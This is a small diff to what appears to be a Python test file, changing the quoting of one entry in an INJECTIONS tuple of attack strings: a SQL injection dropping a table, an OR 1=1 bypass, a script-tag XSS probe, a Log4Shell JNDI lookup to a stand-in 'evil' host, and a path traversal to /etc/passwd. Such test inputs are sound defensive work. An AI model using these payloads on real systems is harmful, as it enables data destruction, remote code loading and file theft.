@@ -14,7 +14,7 @@ from typing import Any
 
 INJECTIONS = (
     "x'; DROP TABLE accounts; --",
-    "\" OR 1=1 --",
+    '" OR 1=1 --',
     "<script>alert(1)</script>",
     "${jndi:ldap://evil/a}",
     "../../etc/passwd",
